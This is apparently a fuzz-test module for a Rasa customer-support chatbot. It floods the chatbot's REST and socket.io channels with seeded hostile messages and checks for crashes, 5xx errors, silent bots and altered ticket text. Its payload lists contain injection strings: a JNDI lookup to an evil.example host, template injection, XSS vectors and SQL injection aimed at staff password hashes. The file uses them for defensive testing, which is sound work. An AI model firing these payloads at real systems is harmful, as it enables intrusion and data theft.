"""Hostile customer messages against the running product, measured (``make fuzz``; 1,000 in ``make test``).

Our own seeded generator (the same seed gives the same messages, so a
failure can be replayed) mixes what an attacker or a broken client sends:
random Unicode, control characters, right-to-left text, 10 KB and 100 KB
bodies, JSON- and template-looking text, markup, SQL, emoji runs, card-number
look-alikes and Rasa's own ``/intent{...}`` syntax, between ordinary
complaint lines so conversations go through the whole flow and file tickets.

Several senders chat at once, some over the REST channel and some over
socket.io (the widget's channel, long-polling).  Four figures, targets all 0:

- ``http_5xx``: REST answers 500 and up (and requests that got no answer);
- ``processes_died``: Rasa, the action server or the web app exited;
- ``stopped_answering``: conversations that say nothing to a plain "hello"
  at the end (no person is online, so no handoff pauses the bot);
- ``text_mismatches``: customer lines on the tickets that are not, in order,
  what the sender sent after the documented masking (card numbers, card
  codes, expiry dates and passwords: calmdesk.privacy; Rasa trims whitespace
  around a message; NUL becomes U+FFFD).
"""
from __future__ import annotations

import asyncio
import contextlib
import random
import secrets
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Iterator

import httpx
import yaml

from calmdesk.checks.socketio_client import hang_up
from calmdesk.privacy import mask_pii

OPENERS = ("My parcel never arrived, order 5512093, this is ridiculous",
           "you charged me twice for the same order 4839201!!",
           "My TV arrived with a CRACKED SCREEN!!! order 7734120")
ORDINARY = ("jane.fuzz@example.com", "the refund please", "no, that's all", "4", "I want to talk to a person",
            "what?", "hello", "this is the worst service ever")
RTL = "\u202eمرحبا بالعالم שלום עולם\u202c"
TEMPLATES = ("{{7*7}}", "${jndi:ldap://evil.example/a}", "{% for x in range(9) %}x{% endfor %}", "<%= 7*7 %>",
             "#{7*7}", "{{constructor.constructor('alert(1)')()}}", "[[${7*7}]]", "{\"sender\": \"admin\"}")
MARKUP = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "]]><!--", "<svg/onload=alert(1)>",
          "javascript:alert(1)", "<a href='//evil.example'>click</a>", "&lt;b&gt;&#0;")
SQL = ("'; DROP TABLE tickets; --", "\" OR 1=1 --", "1; SELECT * FROM staff_users", "admin'--",
       "%' UNION SELECT password_hash FROM staff_users --", "\\'; TRUNCATE events; --")
EMOJI = ("😡", "🤬", "👍🏽", "👨‍👩‍👧‍👦", "🏳️‍🌈", "🇬🇧", "💔", "🔥")
CARDS = ("4111 1111 1111 1111", "5500-0000-0000-0004", "card 378282246310005 cvv 123 exp 12/29",
         "my password is hunter2hunter2", "4111111111111112", "1234 5678 9012 3456")
COMMANDS = ('/choose_remedy{"remedy": "refund"}', "/restart", '/inform{"email": "x@y.z"}', "/handback",
            "/session_start", '/nlu_fallback{"a": [1, {"b": null}]}', "/", "/ /")


def _unicode(rng: random.Random, n: int) -> str:
    """Random Unicode scalar values (no lone surrogates: they cannot be UTF-8 at all)."""
    chars = []
    for _ in range(n):
        plane = rng.random()
        top = 0x7F if plane < 0.3 else 0xFFFF if plane < 0.85 else 0x10FFFF
        code = rng.randint(0x20, top)
        if 0xD800 <= code <= 0xDFFF:
            code = 0xFFFD
        chars.append(chr(code))
    return "".join(chars)


def message(rng: random.Random) -> tuple[str, str]:
    """(kind, text): one hostile (or, one time in five, ordinary) customer message."""
    roll = rng.random()
    if roll < 0.2:
        return "ordinary", rng.choice(ORDINARY)
    # Big bodies are rarer (2% and 1%): a 100 KB message takes Rasa about 3 s, a 10 KB one 0.7 s.
    if roll < 0.22:
        kind = "big10k"
    elif roll < 0.23:
        kind = "big100k"
    else:
        kind = rng.choice(("unicode", "control", "rtl", "json", "template", "markup", "sql", "emoji", "card",
                           "command", "mixed"))
    if kind == "unicode":
        text = _unicode(rng, rng.randint(1, 300))
    elif kind == "control":
        text = "".join(chr(rng.choice([*range(0, 32), 127, 0x85, 0x2028, 0x2029, 0xFEFF])) for _ in range(20))
        text = f"my order{text}never came"
    elif kind == "rtl":
        text = f"{RTL} order 4839201 {RTL[::-1]}"
    elif kind == "json":
        text = rng.choice(('{"message": "hi", "sender": "other"}', "[1, 2, {\"a\": null}]", "null", "true",
                           '{"__proto__": {"admin": true}}', "\"quoted\"", "1e309"))
    elif kind == "template":
        text = rng.choice(TEMPLATES)
    elif kind == "markup":
        text = rng.choice(MARKUP)
    elif kind == "sql":
        text = rng.choice(SQL)
    elif kind == "emoji":
        text = "".join(rng.choice(EMOJI) for _ in range(rng.randint(5, 400)))
    elif kind == "card":
        text = f"{rng.choice(CARDS)} please refund my order"
    elif kind == "command":
        text = rng.choice(COMMANDS)
    elif kind == "mixed":
        parts = (TEMPLATES, MARKUP, SQL, EMOJI, CARDS)
        text = " ".join(rng.choice(rng.choice(parts)) for _ in range(rng.randint(2, 8)))
    elif kind == "big10k":
        text = ("my parcel is late and " + _unicode(rng, 60)) * 120
        text = text[:10_000]
    else:
        text = ("this is unacceptable!!! " * 4200)[:100_000]
    if not text.strip():
        text = f"?{text}"
    return kind, text


def expected(text: str) -> str:
    """What a ticket should hold for ``text``: the channels' masking, Rasa trimming surrounding whitespace
    (``UserMessage`` strips the text), and NUL as U+FFFD (calmdesk/desk/tickets/store.py)."""
    return mask_pii(text).text.strip().replace("\x00", "\ufffd")


@dataclass
class Sender:
    sender_id: str
    channel: str  # "rest" or "socketio"
    sent: list[str] = field(default_factory=list)
    unanswered: int = 0
    disconnects: int = 0


@dataclass
class Figures:
    messages: int = 0
    by_kind: dict[str, int] = field(default_factory=dict)
    http_5xx: int = 0
    no_response: int = 0
    unanswered_turns: int = 0
    socketio_disconnects: int = 0
    processes_died: int = 0
    stopped_answering: int = 0
    tickets_checked: int = 0
    lines_checked: int = 0
    text_mismatches: int = 0
    mismatch_examples: list[str] = field(default_factory=list)
    seconds: float = 0.0
    errors: list[str] = field(default_factory=list)

    def as_dict(self) -> dict[str, Any]:
        return {k: v for k, v in self.__dict__.items()}


def _rest(rasa_url: str, sender: Sender, text: str, figures: Figures, lock: threading.Lock) -> None:
    try:
        response = httpx.post(f"{rasa_url}/webhooks/rest/webhook", json={"sender": sender.sender_id,
                                                                          "message": text}, timeout=180)
    except httpx.HTTPError as error:
        with lock:
            figures.no_response += 1
            figures.errors.append(f"{sender.sender_id}: {type(error).__name__}")
        return
    with lock:
        if response.status_code >= 500:
            figures.http_5xx += 1
            figures.errors.append(f"{sender.sender_id}: HTTP {response.status_code}")
        elif response.status_code == 200 and not response.json():
            sender.unanswered += 1


async def _socketio(rasa_url: str, sender: Sender, texts: list[str], figures: Figures) -> None:
    """Chat as the widget does; a dropped connection is counted and reconnected (the widget reconnects too)."""
    import socketio

    pending = list(texts)
    while pending:
        client = socketio.AsyncClient(reconnection=False)
        confirmed: asyncio.Queue = asyncio.Queue()
        bot: asyncio.Queue = asyncio.Queue()
        client.on("session_confirm", confirmed.put)
        client.on("bot_uttered", bot.put)
        try:
            await client.connect(rasa_url, socketio_path="/socket.io", transports=["polling"])
            await client.emit("session_request", {"session_id": sender.sender_id})
            await asyncio.wait_for(confirmed.get(), 60)
            while pending:
                text = pending[0]
                await client.emit("user_uttered", {"message": text, "session_id": sender.sender_id})
                pending.pop(0)
                sender.sent.append(text)
                try:
                    await asyncio.wait_for(bot.get(), _answer_wait(text))
                except asyncio.TimeoutError:
                    sender.unanswered += 1
                else:
                    with contextlib.suppress(asyncio.TimeoutError):
                        while True:  # read the whole answer (it may be two messages) before typing again
                            await asyncio.wait_for(bot.get(), 0.3)
                if not client.connected:
                    raise ConnectionError("the server closed the connection")
        except (socketio.exceptions.SocketIOError, ConnectionError, asyncio.TimeoutError) as error:
            sender.disconnects += 1
            if sender.disconnects > 20:
                raise
            figures.errors.append(f"{sender.sender_id}: socket.io {type(error).__name__} (reconnecting)")
        finally:
            await hang_up(client)


def _answer_wait(text: str) -> float:
    """How long a socket.io sender waits for the bot's answer before counting the turn unanswered.

    Rasa answers nothing to a blank message (it strips it to ""), and before
    components/typed_commands.py it answered nothing to its own command syntax
    ("/restart", "/session_start"): waiting the full minute for each of those
    made the 10,000-message run take hours.  Commands are now read as words and
    answered; the shorter wait stays as a bound.  A reply that comes later is
    read before the next message's.
    """
    stripped = text.strip()
    if not stripped:
        return 5.0
    return 15.0 if stripped.startswith("/") else 60.0


def run(rasa_url: str, tickets_of, total: int, senders: int = 8, socketio_senders: int = 2, seed: int = 1,
        alive=lambda: 0) -> Figures:
    """Send ``total`` messages from ``senders`` conversations at once; return the figures.

    ``tickets_of(sender_id)`` reads a conversation's tickets (the staff API);
    ``alive()`` says how many stack processes have died so far.
    """
    rng = random.Random(seed)
    figures, lock = Figures(), threading.Lock()
    people = [Sender(f"fuzz-{seed}-{n}-{rng.getrandbits(64):016x}", "socketio" if n < socketio_senders else "rest")
              for n in range(senders)]
    plans: dict[str, list[str]] = {p.sender_id: [OPENERS[n % len(OPENERS)]] for n, p in enumerate(people)}
    for n in range(total - senders):
        kind, text = message(rng)
        figures.by_kind[kind] = figures.by_kind.get(kind, 0) + 1
        plans[people[n % senders].sender_id].append(text)
    figures.messages = sum(len(plan) for plan in plans.values())
    started = time.monotonic()

    def converse(person: Sender) -> None:
        try:
            if person.channel == "socketio":
                asyncio.run(_socketio(rasa_url, person, plans[person.sender_id], figures))
            else:
                for text in plans[person.sender_id]:
                    person.sent.append(text)
                    _rest(rasa_url, person, text, figures, lock)
        except Exception as error:  # a channel that broke: counted, the run goes on
            with lock:
                figures.errors.append(f"{person.sender_id}: {type(error).__name__}: {error}")
                figures.no_response += 1

    threads = [threading.Thread(target=converse, args=(p,)) for p in people]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    figures.seconds = round(time.monotonic() - started, 1)
    figures.unanswered_turns = sum(p.unanswered for p in people)
    figures.socketio_disconnects = sum(p.disconnects for p in people)
    figures.processes_died = alive()

    for person in people:  # does every conversation still answer?
        try:
            reply = httpx.post(f"{rasa_url}/webhooks/rest/webhook",
                               json={"sender": person.sender_id, "message": "hello, are you still there?"}, timeout=120)
            answered = reply.status_code == 200 and bool(reply.json())
        except httpx.HTTPError:
            answered = False
        figures.stopped_answering += not answered
        person.sent.append("hello, are you still there?")
        _compare(person, tickets_of(person.sender_id), figures)
    return figures


def _compare(person: Sender, tickets: list[dict], figures: Figures) -> None:
    """Every customer line of every ticket must be one of the sent messages (masked), in the order sent."""
    sent = [expected(text) for text in person.sent]
    for ticket in tickets:
        figures.tickets_checked += 1
        position = 0
        for line in ticket["transcript"]:
            if line["sender"] != "customer":
                continue
            figures.lines_checked += 1
            try:
                position = sent.index(line["text"], position) + 1
            except ValueError:
                figures.text_mismatches += 1
                if len(figures.mismatch_examples) < 5:
                    figures.mismatch_examples.append(f"{ticket['reference']}: {line['text'][:80]!r}")


@contextlib.contextmanager
def fuzz_stack(var_dir: Path) -> Iterator[tuple[Any, Any]]:
    """The embedded product on free ports in ``var_dir``, support open, nobody online: (Stack, ChatClient).

    Nobody online, so asking for a person does not pause the bot: every
    message should get an answer.  Like ``started_stack``, but the Stack is
    handed out too, so the run can tell whether a process died.
    """
    from calmdesk.checks.client import ALWAYS_OPEN, ChatClient, environment, free_port
    from calmdesk.db import migrate
    from calmdesk.operations.stack import Stack, StackConfig
    from calmdesk.operations.training import ensure_model

    ensure_model()
    var_dir.mkdir(parents=True, exist_ok=True)
    config = StackConfig(rasa_port=free_port(), actions_port=free_port(), web_port=free_port(), var_dir=var_dir,
                         rasa_token=secrets.token_urlsafe(16), api_token=secrets.token_urlsafe(16),
                         limit_exempt="127.0.0.1")  # hostile content at full speed; floods: tests/e2e/test_flood.py
    migrate(config.resolved_database_url())
    hours = var_dir / "support_hours.yml"
    hours.write_text(yaml.safe_dump(ALWAYS_OPEN))
    running = Stack(config)
    try:
        with environment(SUPPORT_HOURS_FILE=str(hours), CONSOLE_BASE_URL=config.web_url):
            running.start()
        running.wait_ready(timeout=300)
        client = ChatClient(config.rasa_url, config.rasa_token, config.web_url, config.api_token,
                            database_url=config.resolved_database_url())
        yield running, client
    finally:
        running.stop()
